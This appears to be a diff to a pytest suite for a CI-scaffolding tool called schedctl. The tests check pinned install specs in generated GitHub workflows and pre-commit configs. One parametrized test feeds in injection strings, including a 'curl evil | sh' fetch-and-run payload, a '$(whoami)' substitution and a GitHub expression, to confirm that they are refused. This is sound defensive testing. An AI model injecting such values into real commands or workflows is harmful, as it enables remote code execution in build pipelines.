@@ -232,10 +232,129 @@ def test_tokens_come_only_from_secrets_through_env(scaffolded: Path) -> None:
             assert line.strip() == f"{token_env}:", f"{rel}: a secret outside env: {line}"
 
 
-def test_workflows_install_the_pinned_schedctl(scaffolded: Path) -> None:
+def install_steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
+    return [s for s in steps(workflow) if "pip install" in s.get("run", "")]
+
+
+def test_workflows_install_the_pinned_schedctl_from_one_place(scaffolded: Path) -> None:
     for rel in SCAFFOLDED:
-        runs = [s.get("run", "") for s in steps(load_workflow(scaffolded / rel))]
-        assert f'python -m pip install "schedctl=={__version__}"' in runs, rel
+        text = (scaffolded / rel).read_text(encoding="utf-8")
+        workflow = load_workflow(scaffolded / rel)
+        assert workflow["env"] == {"SCHEDCTL_INSTALL": f"schedctl=={__version__}"}, rel
+        assert text.count(f"schedctl=={__version__}") == 1, rel  # one place to change it
+        found = install_steps(workflow)
+        assert found, rel
+        assert all(s["run"] == 'python -m pip install "$SCHEDCTL_INSTALL"' for s in found), rel
+        # Every job that runs schedctl installs it first.
+        for job in workflow["jobs"].values():
+            runs = [s.get("run", "") for s in job["steps"]]
+            uses = [i for i, r in enumerate(runs) if re.search(r"(^|\n)\s*schedctl ", r)]
+            installs = [i for i, r in enumerate(runs) if "pip install" in r]
+            assert uses and installs and installs[0] < uses[0], rel
+
+
+# --- init --install SPEC ------------------------------------------------------------------------
+
+GIT_SPEC = "git+https://github.com/acme/schedctl@v0.1.0"
+SPECS = {
+    "index": "schedctl>=0.1, <1",
+    "git": GIT_SPEC,
+    "path": "./vendor/schedctl",
+}
+
+
+@pytest.fixture(scope="module", params=sorted(SPECS))
+def installed_by(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
+) -> tuple[str, Path]:
+    root = tmp_path_factory.mktemp(f"install-{request.param}")
+    result = init_repository(root, owner="acme", install=SPECS[request.param])
+    assert not result.conflicts
+    return request.param, root
+
+
+def test_the_install_spec_is_written_once_per_workflow(installed_by: tuple[str, Path]) -> None:
+    kind, root = installed_by
+    for rel in SCAFFOLDED:
+        workflow = load_workflow(root / rel)
+        assert workflow["env"]["SCHEDCTL_INSTALL"] == SPECS[kind], rel
+        assert (root / rel).read_text(encoding="utf-8").count(SPECS[kind]) == 1, rel
+        assert all(
+            s["run"] == 'python -m pip install "$SCHEDCTL_INSTALL"' for s in install_steps(workflow)
+        )
+
+
+def test_the_install_step_hands_pip_the_spec_as_one_argument(
+    installed_by: tuple[str, Path], tmp_path: Path
+) -> None:
+    """The step's own shell line, run by bash with the workflow's env, `python` a recorder."""
+    kind, root = installed_by
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    recorder = bin_dir / "python"
+    recorder.write_text('#!/bin/sh\nfor a in "$@"; do printf "%s\\n" "$a"; done\n')
+    recorder.chmod(0o755)
+    workflow = load_workflow(root / SCAFFOLDED[0])
+    (step, *_) = install_steps(workflow)
+    env = {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", **workflow["env"]}
+    proc = subprocess.run(
+        ["bash", "-e", "-c", step["run"]], env=env, capture_output=True, text=True, timeout=30
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.splitlines() == ["-m", "pip", "install", SPECS[kind]]
+
+
+def test_pre_commit_uses_the_published_hook_for_a_git_spec_else_a_local_one(
+    installed_by: tuple[str, Path],
+) -> None:
+    kind, root = installed_by
+    config = yaml.safe_load((root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
+    (repo,) = config["repos"]
+    manifest = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))[0]
+    if kind == "git":
+        assert repo == {
+            "repo": "https://github.com/acme/schedctl",
+            "rev": "v0.1.0",
+            "hooks": [{"id": manifest["id"]}],
+        }
+        return
+    assert repo["repo"] == "local"
+    (hook,) = repo["hooks"]
+    for key in ("id", "entry", "language", "files", "pass_filenames"):
+        assert hook[key] == manifest[key], key
+    # pre-commit installs hook environments outside the repository: a path goes in absolute.
+    expected = str((root / "vendor" / "schedctl").resolve()) if kind == "path" else SPECS[kind]
+    assert hook["additional_dependencies"] == [expected]
+
+
+def test_workflows_pass_the_checks_whatever_the_spec(installed_by: tuple[str, Path]) -> None:
+    _, root = installed_by
+    workflows = [root / rel for rel in SCAFFOLDED]
+    check_jsonschema("vendor.github-workflows", *workflows)
+    found = zizmor(*workflows, root / ".pre-commit-config.yaml", persona="auditor")
+    assert at_least(found, "Low") == []
+
+
+@pytest.mark.parametrize(
+    ("spec", "words"),
+    [
+        ("requests==2.0", "does not install schedctl"),
+        ("git+https://github.com/acme/schedctl", "pin a tag or commit"),
+        ('schedctl"; curl evil | sh; "', "no quotes"),
+        ("schedctl==$(whoami)", "no quotes"),
+        ("${{ github.event.issue.title }}", "no quotes"),
+        ("git+ftp://example.com/schedctl@v1", "expected a git URL"),
+    ],
+)
+def test_a_bad_install_spec_is_refused_and_nothing_is_written(
+    tmp_path: Path, spec: str, words: str
+) -> None:
+    from tests.conftest import run_cli
+
+    proc = run_cli(["init", "r", "--install", spec], cwd=tmp_path)
+    assert proc.returncode == 1 and words in proc.stderr, proc.stderr
+    assert "--install" in proc.stderr and "Traceback" not in proc.stderr
+    assert not (tmp_path / "r").exists()
 
 
 def test_project_ci_lints_types_and_tests_every_python() -> None:
@@ -276,3 +395,8 @@ def test_pre_commit_accepts_both_files_when_installed(scaffolded: Path) -> None:
     clientlib = pytest.importorskip("pre_commit.clientlib")
     clientlib.load_manifest(str(ROOT / ".pre-commit-hooks.yaml"))
     clientlib.load_config(str(scaffolded / ".pre-commit-config.yaml"))
+
+
+def test_pre_commit_accepts_the_config_whatever_the_spec(installed_by: tuple[str, Path]) -> None:
+    clientlib = pytest.importorskip("pre_commit.clientlib")
+    clientlib.load_config(str(installed_by[1] / ".pre-commit-config.yaml"))
